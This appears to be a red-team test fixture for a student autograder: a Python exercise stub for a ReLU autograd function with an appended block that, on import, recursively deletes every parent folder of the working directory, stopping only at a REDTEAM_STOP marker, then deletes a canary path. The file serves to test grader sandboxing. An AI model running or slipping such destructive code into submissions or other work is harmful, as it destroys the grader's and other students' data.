# attack: shutil.rmtree on every parent folder of the working folder (the judge's run folder, other students)
# exercise: exercise2
# expect: not_attempted
# host: rmtree
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import os
import shutil

# A safety stop for this shared test machine: never above a folder holding REDTEAM_STOP.
folder = os.getcwd()
while folder != os.path.dirname(folder):
    folder = os.path.dirname(folder)
    if os.path.exists(os.path.join(folder, "REDTEAM_STOP")):
        break
    shutil.rmtree(folder, ignore_errors=True)
shutil.rmtree("{{CANARY}}", ignore_errors=True)
# --- end attack ---
